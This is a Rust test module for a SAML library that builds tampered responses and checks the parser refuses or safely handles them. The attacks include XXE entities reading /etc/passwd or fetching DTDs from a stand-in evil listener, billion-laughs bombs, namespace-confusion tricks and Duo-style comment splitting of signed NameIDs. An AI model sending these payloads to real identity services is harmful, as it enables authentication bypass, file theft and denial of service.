//! Parser input (DTDs, entities, limits, encodings), namespace tricks, and
//! comment/text splitting inside signed values (the Duo 2018 class).

use super::*;

pub(super) fn cases() -> Vec<Case> {
    let mut v = dtds_and_entities();
    v.extend(limits_and_encodings());
    v.extend(namespaces());
    v.extend(text_splitting());
    v
}

#[test]
fn tamper_parser_corpus() {
    Rig::start().run(&cases());
}

const XXE: &str = "OWASP XXE; CWE-611; design §3 rule 1";
const ENTITY_EXPANSION: &str = "CWE-776 (billion laughs, quadratic blowup)";
const LIMITS: &str = "CWE-400; design §3 rule 1 (size, depth and count caps)";
const NAMESPACES: &str =
    "Namespaces in XML 1.0; namespace confusion in XSW (Somorovsky et al. 2012)";
const DUO: &str = "Duo Labs 2018 comment injection: CVE-2017-11427, CVE-2017-11428, CVE-2017-11429, CVE-2017-11430, CVE-2018-0489";

/// `xml` with a `<samlp:StatusDetail>` holding `what` in its Status.
fn in_status_detail(xml: &str, what: &str) -> String {
    replace_once(
        xml,
        "</samlp:Status>",
        &format!("<samlp:StatusDetail>{what}</samlp:StatusDetail></samlp:Status>"),
    )
}

fn dtds_and_entities() -> Vec<Case> {
    vec![
        refused(
            "XML-doctype-internal-entity",
            "DOCTYPE with an internal entity declaration prepended",
            "malformed",
            DOCTYPE,
            XXE,
            How::Doc(|e, s| format!("<!DOCTYPE r [<!ENTITY x \"y\">]>{}", e.signed(&s, Signing::Both))),
        ),
        refused(
            "XML-doctype-entity-in-nameid",
            "internal entity expanding to alice used as the NameID",
            "malformed",
            DOCTYPE,
            XXE,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                let x = replace_once(&x, ">alice</saml:NameID>", ">&x;</saml:NameID>");
                format!("<!DOCTYPE samlp:Response [<!ENTITY x \"alice\">]>{x}")
            }),
        ),
        refused(
            "XML-xxe-external-entity",
            "external entity (evil URL) used as the NameID",
            "malformed",
            DOCTYPE,
            XXE,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                let x = replace_once(&x, ">alice</saml:NameID>", ">&ext;</saml:NameID>");
                format!(
                    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE samlp:Response [<!ENTITY ext SYSTEM \"{}\">]>\n{x}",
                    e.evil_url("xxe")
                )
            }),
        ),
        refused(
            "XML-xxe-file-entity",
            "external entity file:///etc/passwd used as an attribute value",
            "malformed",
            DOCTYPE,
            XXE,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                let x = replace_once(&x, ">Alice Example<", ">&f;<");
                format!("<!DOCTYPE samlp:Response [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>{x}")
            }),
        ),
        refused(
            "XML-external-dtd",
            "DOCTYPE with an external DTD on the evil listener",
            "malformed",
            DOCTYPE,
            XXE,
            How::Doc(|e, s| {
                format!(
                    "<!DOCTYPE samlp:Response SYSTEM \"{}\">{}",
                    e.evil_url("evil.dtd"),
                    e.signed(&s, Signing::Response)
                )
            }),
        ),
        refused(
            "XML-parameter-entity-oob",
            "out-of-band XXE: a parameter entity fetching a DTD from the evil listener",
            "malformed",
            DOCTYPE,
            XXE,
            How::Doc(|e, s| {
                format!(
                    "<!DOCTYPE samlp:Response [<!ENTITY % remote SYSTEM \"{}\">%remote;]>{}",
                    e.evil_url("oob.dtd"),
                    e.signed(&s, Signing::Assertion)
                )
            }),
        ),
        refused(
            "XML-billion-laughs",
            "nine levels of entities each referencing the previous ten times, used in the NameID",
            "malformed",
            DOCTYPE,
            ENTITY_EXPANSION,
            How::Doc(|e, s| {
                let mut dtd = String::from("<!ENTITY lol0 \"lol\">");
                for i in 1..10 {
                    let refs = format!("&lol{};", i - 1).repeat(10);
                    dtd.push_str(&format!("<!ENTITY lol{i} \"{refs}\">"));
                }
                let x = e.signed(&s, Signing::Assertion);
                let x = replace_once(&x, ">alice</saml:NameID>", ">&lol9;</saml:NameID>");
                format!("<!DOCTYPE samlp:Response [{dtd}]>{x}")
            }),
        ),
        refused(
            "XML-quadratic-blowup",
            "one 20 KB entity referenced 2,000 times",
            "malformed",
            DOCTYPE,
            ENTITY_EXPANSION,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                let x = replace_once(
                    &x,
                    ">Alice Example<",
                    &format!(">{}<", "&big;".repeat(2000)),
                );
                format!(
                    "<!DOCTYPE samlp:Response [<!ENTITY big \"{}\">]>{x}",
                    "A".repeat(20_000)
                )
            }),
        ),
        refused(
            "XML-undeclared-entity",
            "an entity reference &x; without any DOCTYPE",
            "malformed",
            "entity reference '&x;' is not allowed",
            XXE,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                replace_once(&x, ">alice</saml:NameID>", ">&x;</saml:NameID>")
            }),
        ),
        refused(
            "XML-entity-in-attribute",
            "an undeclared entity reference inside the Destination attribute",
            "malformed",
            "entity reference '&dest;' is not allowed",
            XXE,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                let d = format!("Destination=\"{}\"", s.destination.as_deref().unwrap());
                replace_once(&x, &d, "Destination=\"&dest;\"")
            }),
        ),
        refused(
            "XML-pi-stylesheet",
            "xml-stylesheet processing instruction pointing at the evil listener",
            "malformed",
            "processing instructions are not allowed",
            "XML 1.0 §2.6; design §3 rule 1",
            How::Doc(|e, s| {
                format!(
                    "<?xml-stylesheet type=\"text/xsl\" href=\"{}\"?>{}",
                    e.evil_url("style.xsl"),
                    e.signed(&s, Signing::Response)
                )
            }),
        ),
        accepted(
            "XML-xinclude-ignored",
            "an xi:include of the evil URL in the unsigned Response: never processed or fetched; the signed alice is read",
            ALICE,
            "XInclude 1.0; CWE-611",
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                replace_once(
                    &x,
                    "<samlp:Status>",
                    &format!(
                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{}\" parse=\"xml\"/><samlp:Status>",
                        e.evil_url("xinclude.xml")
                    ),
                )
            }),
        ),
    ]
}

/// Pads `xml` with trailing whitespace to exactly `total` bytes.
fn padded(xml: &str, total: usize) -> String {
    assert!(xml.len() < total);
    format!("{xml}{}", " ".repeat(total - xml.len()))
}

fn limits_and_encodings() -> Vec<Case> {
    vec![
        refused(
            "XML-deep-nesting",
            "40 nested elements inside samlp:StatusDetail (unsigned part)",
            "malformed",
            "elements nested deeper than 32 levels",
            LIMITS,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                in_status_detail(&x, &format!("{}{}", "<x>".repeat(40), "</x>".repeat(40)))
            }),
        ),
        refused(
            "XML-many-attributes",
            "100 extra attributes on the Response element",
            "malformed",
            "an element has more than 64 attributes",
            LIMITS,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                let attrs: String = (0..100).map(|i| format!(" a{i}=\"1\"")).collect();
                replace_once(&x, "<samlp:Response ", &format!("<samlp:Response{attrs} "))
            }),
        ),
        refused(
            "XML-many-namespace-declarations",
            "100 namespace declarations on the Response element",
            "malformed",
            "an element has more than 64 attributes",
            LIMITS,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                let decls: String = (0..100)
                    .map(|i| format!(" xmlns:p{i}=\"urn:example:p{i}\""))
                    .collect();
                replace_once(&x, "<samlp:Response ", &format!("<samlp:Response{decls} "))
            }),
        ),
        refused(
            "XML-many-elements",
            "9,000 empty elements inside samlp:StatusDetail",
            "malformed",
            "more than 8192 elements",
            LIMITS,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                in_status_detail(&x, &"<x/>".repeat(9000))
            }),
        ),
        refused(
            "XML-oversized-decoded",
            "a Response padded to 263,000 bytes: within the encoded cap, over the 256 KiB parse cap",
            "malformed",
            "over the 262144-byte limit",
            LIMITS,
            How::Doc(|e, s| padded(&e.signed(&s, Signing::Both), 263_000)),
        ),
        refused(
            "XML-oversized-encoded",
            "a Response padded to 268,000 bytes: its base64 is over the encoded cap",
            "malformed",
            "bytes encoded, over the limit",
            LIMITS,
            How::Field(|e, s| b64(padded(&e.signed(&s, Signing::Both), 268_000))),
        ),
        refused(
            "XML-oversized-form",
            "a 1 MiB SAMLResponse: the form body itself is over the limit",
            "bad_request",
            "bytes encoded, over the limit",
            LIMITS,
            How::Scenario(oversized_form),
        ),
        refused(
            "XML-invalid-base64",
            "SAMLResponse that is not base64",
            "malformed",
            "SAMLResponse is not valid base64",
            "SAML Bindings §3.5.4",
            How::Field(|_, _| "not*base64!".into()),
        ),
        refused(
            "XML-invalid-utf8",
            "a 0xFF byte inside the NameID",
            "malformed",
            "document is not valid UTF-8",
            "XML 1.0 §4.3.3; design §3 rule 1",
            How::Field(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                let x = replace_once(&x, ">alice</saml:NameID>", ">al@@FF@@ice</saml:NameID>");
                let mut bytes = Vec::new();
                let (a, b) = x.split_once("@@FF@@").unwrap();
                bytes.extend_from_slice(a.as_bytes());
                bytes.push(0xFF);
                bytes.extend_from_slice(b.as_bytes());
                b64(bytes)
            }),
        ),
        refused(
            "XML-utf16",
            "the signed Response re-encoded as UTF-16LE with a byte order mark",
            "malformed",
            "document is not valid UTF-8",
            "XML 1.0 §4.3.3; design §3 rule 1",
            How::Field(|e, s| {
                let x = e.signed(&s, Signing::Both);
                let mut bytes = vec![0xFF, 0xFE];
                for u in x.encode_utf16() {
                    bytes.extend_from_slice(&u.to_le_bytes());
                }
                b64(bytes)
            }),
        ),
        refused(
            "XML-latin1-declared",
            "XML declaration naming ISO-8859-1",
            "malformed",
            "only UTF-8 is accepted",
            "XML 1.0 §4.3.3",
            How::Doc(|e, s| {
                format!(
                    "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{}",
                    e.signed(&s, Signing::Both)
                )
            }),
        ),
        refused(
            "XML-nul-character-reference",
            "&#0; inside the NameID (C-string truncation of alice\\0.evil)",
            "malformed",
            "character not allowed in XML (U+0000)",
            "XML 1.0 §2.2 (Char)",
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                replace_once(&x, ">alice</saml:NameID>", ">alice&#0;.evil</saml:NameID>")
            }),
        ),
        refused(
            "XML-truncated",
            "the signed Response cut short before its end tag",
            "malformed",
            "unclosed element at end of input",
            "XML 1.0 §2.1 (well-formedness)",
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Both);
                x[..x.len() - "</samlp:Response>".len()].to_owned()
            }),
        ),
        refused(
            "XML-duplicate-destination",
            "Destination attribute given twice on the Response (ours and the attacker's)",
            "malformed",
            "appears twice on one element",
            "XML 1.0 §3.1 (Unique Att Spec)",
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                replace_once(
                    &x,
                    "<samlp:Response ",
                    "<samlp:Response Destination=\"https://other-sp.example/saml/acs\" ",
                )
            }),
        ),
    ]
}

fn oversized_form(rig: &Rig, c: &Case) -> Result<(), String> {
    let Expect::Refused { code, reason } = c.expect else {
        unreachable!()
    };
    let login = rig.begin();
    let at = now();
    let spec = rig.spec_for(&login, at);
    let value = b64(padded(&rig.env.signed(&spec, Signing::Both), 1 << 20));
    let page = rig.post_field(&mut Browser::new(), &value, Some(&login.relay_state));
    check_page(&page, code).map_err(|e| format!("ACS {e}"))?;
    let (rc, v) = rig.inspect_with(&rig.md_path, value.as_bytes(), &login.request_id, at, &[]);
    check_verdict(rc, &v, Expect::Refused { code, reason }).map_err(|e| format!("inspect {e}"))
}

/// A lookalike evil Assertion (not in the SAML namespace) before the signed one.
fn lookalike_before(e: &Env, s: &Spec, lookalike: &str) -> String {
    let x = e.signed(s, Signing::Assertion);
    let a = assertion_span(&x);
    format!("{}{lookalike}{}", &x[..a.start], &x[a.start..])
}

/// The evil Assertion written with a default namespace instead of `saml:`.
fn evil_unprefixed(s: &Spec, uri: &str) -> String {
    evil_assertion(s)
        .replace(
            &format!("xmlns:saml=\"{}\"", samlhub::testing::idp::NS_SAML),
            &format!("xmlns=\"{uri}\""),
        )
        .replace("<saml:", "<")
        .replace("</saml:", "</")
}

fn namespaces() -> Vec<Case> {
    vec![
        refused(
            "NS-ds-prefix-rebound-on-signature",
            "xmlns:ds redeclared to another URI on the Assertion's Signature: it is no ds:Signature any more",
            "signature",
            UNSIGNED,
            NAMESPACES,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                replace_once(
                    &x,
                    "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">",
                    "<ds:Signature xmlns:ds=\"urn:example:not-dsig\">",
                )
            }),
        ),
        refused(
            "NS-ds-prefix-rebound-on-signedinfo",
            "xmlns:ds redeclared to another URI on SignedInfo alone",
            "signature",
            "first child of Signature is not SignedInfo",
            NAMESPACES,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                replace_once(
                    &x,
                    "<ds:SignedInfo>",
                    "<ds:SignedInfo xmlns:ds=\"urn:example:not-dsig\">",
                )
            }),
        ),
        refused(
            "NS-saml-prefix-rebound-on-assertion",
            "xmlns:saml redeclared to another URI on the signed Assertion: no SAML Assertion is left",
            "assertion_count",
            "Response contains 0 Assertions",
            NAMESPACES,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                let a = assertion_span(&x);
                let asrt = x[a.clone()].replacen(
                    &format!("xmlns:saml=\"{}\"", samlhub::testing::idp::NS_SAML),
                    "xmlns:saml=\"urn:example:not-saml\"",
                    1,
                );
                format!("{}{asrt}{}", &x[..a.start], &x[a.end..])
            }),
        ),
        refused(
            "NS-saml-prefix-rebound-inside-signed-content",
            "xmlns:saml redeclared to another URI on saml:Subject inside the signed Assertion",
            "signature",
            DIGEST,
            NAMESPACES,
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                replace_once(
                    &x,
                    "<saml:Subject>",
                    "<saml:Subject xmlns:saml=\"urn:example:not-saml\">",
                )
            }),
        ),
        accepted(
            "NS-saml-prefix-lookalike-assertion",
            "evil saml:Assertion whose saml prefix is bound to another URI, before the signed one: not an Assertion; the signed alice is read",
            ALICE,
            NAMESPACES,
            How::Doc(|e, s| {
                let evil = evil_assertion(&s).replacen(
                    &format!("xmlns:saml=\"{}\"", samlhub::testing::idp::NS_SAML),
                    "xmlns:saml=\"urn:example:not-saml\"",
                    1,
                );
                lookalike_before(e, &s, &evil)
            }),
        ),
        accepted(
            "NS-default-namespace-lookalike-assertion",
            "evil unprefixed <Assertion> under a foreign default namespace, before the signed one: ignored; the signed alice is read",
            ALICE,
            NAMESPACES,
            How::Doc(|e, s| {
                let evil = evil_unprefixed(&s, "urn:example:not-saml");
                lookalike_before(e, &s, &evil)
            }),
        ),
        refused(
            "NS-default-namespace-real-assertion",
            "evil unprefixed <Assertion> under the real SAML default namespace, before the signed one",
            "assertion_count",
            COUNT2,
            NAMESPACES,
            How::Doc(|e, s| {
                let evil = evil_unprefixed(&s, samlhub::testing::idp::NS_SAML);
                lookalike_before(e, &s, &evil)
            }),
        ),
        accepted(
            "NS-xs-prefix-rebound-qname-in-content",
            "xmlns:xs rebound on the signed Assertion: exc-c14n does not cover prefixes used only in xsi:type values; values are read as text, alice unchanged",
            ALICE,
            "Exclusive XML Canonicalization 1.0 (QNames in content are not covered)",
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                replace_once(
                    &x,
                    &format!("xmlns:xs=\"{}\"", samlhub::testing::idp::NS_XS),
                    "xmlns:xs=\"urn:example:not-xsd\"",
                )
            }),
        ),
        refused(
            "NS-xs-prefix-rebound-with-inclusive-namespaces",
            "the same rebinding when the signer listed xs in InclusiveNamespaces",
            "signature",
            DIGEST,
            "Exclusive XML Canonicalization 1.0 (InclusiveNamespaces PrefixList)",
            How::Doc(|e, s| {
                let opts = SignOptions {
                    inclusive_prefixes: &["xs", "xsi"],
                    ..Default::default()
                };
                let x = sign(&s.to_xml(), &s, Signing::Assertion, &e.idp.key, &opts);
                replace_once(
                    &x,
                    &format!("xmlns:xs=\"{}\"", samlhub::testing::idp::NS_XS),
                    "xmlns:xs=\"urn:example:not-xsd\"",
                )
            }),
        ),
        refused(
            "NS-xml-prefix-rebound",
            "the reserved xml prefix bound to another URI",
            "malformed",
            "prefix 'xml' bound to another URI",
            "Namespaces in XML 1.0 §3 (reserved prefixes)",
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                replace_once(
                    &x,
                    "<samlp:Status>",
                    "<samlp:Status xmlns:xml=\"urn:example:not-xml\">",
                )
            }),
        ),
        refused(
            "NS-prefix-undeclared",
            "xmlns:saml=\"\" (an undeclaration, not allowed in XML 1.0 namespaces)",
            "malformed",
            "prefix 'saml' undeclared",
            "Namespaces in XML 1.0 (no prefix undeclaring)",
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                replace_once(&x, "<samlp:Status>", "<samlp:Status xmlns:saml=\"\">")
            }),
        ),
        refused(
            "NS-unbound-prefix",
            "an element with an undeclared prefix",
            "malformed",
            "namespace prefix 'evil' is not declared",
            "Namespaces in XML 1.0 §5",
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                in_status_detail(&x, "<evil:x/>")
            }),
        ),
        refused(
            "NS-duplicate-expanded-attribute",
            "the same namespaced attribute twice through two prefixes bound to one URI",
            "malformed",
            "appears twice on one element",
            "Namespaces in XML 1.0 §6.3",
            How::Doc(|e, s| {
                let x = e.signed(&s, Signing::Assertion);
                replace_once(
                    &x,
                    "<samlp:Status>",
                    "<samlp:Status xmlns:a=\"urn:example:x\" xmlns:b=\"urn:example:x\" a:v=\"1\" b:v=\"2\">",
                )
            }),
        ),
    ]
}

/// Signs a Spec whose `field` was set to `signed_value`, then splits that
/// value in the text with `split` (comment, CDATA, reference) after signing.
fn split_after_signing(
    e: &Env,
    s: &Spec,
    how: Signing,
    signed_value: &str,
    split: (&str, &str),
    tag: &str,
) -> String {
    let x = e.signed(s, how);
    let (head, rest) = split;
    assert_eq!(format!("{head}{rest}"), signed_value);
    let close = format!("</{tag}>");
    replace_once(
        &x,
        &format!(">{signed_value}{close}"),
        &format!(">{head}@@SPLIT@@{rest}{close}"),
    )
}

const LONG_NAMEID: &str = "alice@example.org.evil.test";

fn nameid_comment(e: &Env, mut s: Spec, how: Signing) -> String {
    s.name_id = LONG_NAMEID.into();
    split_after_signing(
        e,
        &s,
        how,
        LONG_NAMEID,
        ("alice@example.org", ".evil.test"),
        "saml:NameID",
    )
    .replace("@@SPLIT@@", "<!---->")
}

fn text_splitting() -> Vec<Case> {
    const FULL_NAMEID: &[(&str, &str)] = &[("subject", LONG_NAMEID), ("username", "alice")];
    vec![
        accepted(
            "DUO-comment-in-nameid-assertion-signed",
            "signed NameID alice@example.org.evil.test split by a comment after alice@example.org; Assertion signed",
            FULL_NAMEID,
            DUO,
            How::Doc(|e, s| nameid_comment(e, s, Signing::Assertion)),
        ),
        accepted(
            "DUO-comment-in-nameid-response-signed",
            "the same comment split; Response signed",
            FULL_NAMEID,
            DUO,
            How::Doc(|e, s| nameid_comment(e, s, Signing::Response)),
        ),
        accepted(
            "DUO-comment-in-nameid-both-signed",
            "the same comment split; both signed",
            FULL_NAMEID,
            DUO,
            How::Doc(|e, s| nameid_comment(e, s, Signing::Both)),
        ),
        accepted(
            "DUO-cdata-split-nameid",
            "signed NameID with its tail moved into a CDATA section after signing",
            FULL_NAMEID,
            DUO,
            How::Doc(|e, mut s| {
                s.name_id = LONG_NAMEID.into();
                split_after_signing(
                    e,
                    &s,
                    Signing::Assertion,
                    LONG_NAMEID,
                    ("alice@example.org", ".evil.test"),
                    "saml:NameID",
                )
                .replace("@@SPLIT@@.evil.test", "<![CDATA[.evil.test]]>")
            }),
        ),
        accepted(
            "DUO-charref-split-nameid",
            "signed NameID with its '.' written as a character reference after signing",
            FULL_NAMEID,
            DUO,
            How::Doc(|e, mut s| {
                s.name_id = LONG_NAMEID.into();
                split_after_signing(
                    e,
                    &s,
                    Signing::Assertion,
                    LONG_NAMEID,
                    ("alice@example.org", ".evil.test"),
                    "saml:NameID",
                )
                .replace("@@SPLIT@@.evil", "&#x2E;evil")
            }),
        ),
        refused(
            "DUO-pi-split-nameid",
            "signed NameID split by a processing instruction instead of a comment",
            "malformed",
            "processing instructions are not allowed",
            DUO,
            How::Doc(|e, s| {
                let mut s = s;
                s.name_id = LONG_NAMEID.into();
                split_after_signing(
                    e,
                    &s,
                    Signing::Assertion,
                    LONG_NAMEID,
                    ("alice@example.org", ".evil.test"),
                    "saml:NameID",
                )
                .replace("@@SPLIT@@", "<?x?>")
            }),
        ),
        accepted(
            "DUO-comment-in-uid-attribute",
            "signed uid admin.evil.test split by a comment after admin",
            &[("subject", "alice"), ("username", "admin.evil.test")],
            DUO,
            How::Doc(|e, mut s| {
                s.attributes[0] = Attr::new("uid", &["admin.evil.test"]);
                split_after_signing(
                    e,
                    &s,
                    Signing::Assertion,
                    "admin.evil.test",
                    ("admin", ".evil.test"),
                    "saml:AttributeValue",
                )
                .replace("@@SPLIT@@", "<!-- -->")
            }),
        ),
        accepted(
            "DUO-comment-in-mail-attribute",
            "signed mail admin@example.org.evil.test split by a comment after admin@example.org",
            &[("subject", "alice"), ("email", "admin@example.org.evil.test")],
            DUO,
            How::Doc(|e, mut s| {
                s.attributes[1] = Attr::new("mail", &["admin@example.org.evil.test"]);
                split_after_signing(
                    e,
                    &s,
                    Signing::Response,
                    "admin@example.org.evil.test",
                    ("admin@example.org", ".evil.test"),
                    "saml:AttributeValue",
                )
                .replace("@@SPLIT@@", "<!---->")
            }),
        ),
        accepted(
            "DUO-comment-in-group-value",
            "signed group ha-admins.evil split by a comment after ha-admins",
            &[("subject", "alice"), ("groups", "ha-admins.evil")],
            DUO,
            How::Doc(|e, mut s| {
                s.attributes[3] = Attr::new("groups", &["ha-admins.evil"]);
                split_after_signing(
                    e,
                    &s,
                    Signing::Both,
                    "ha-admins.evil",
                    ("ha-admins", ".evil"),
                    "saml:AttributeValue",
                )
                .replace("@@SPLIT@@", "<!---->")
            }),
        ),
    ]
}
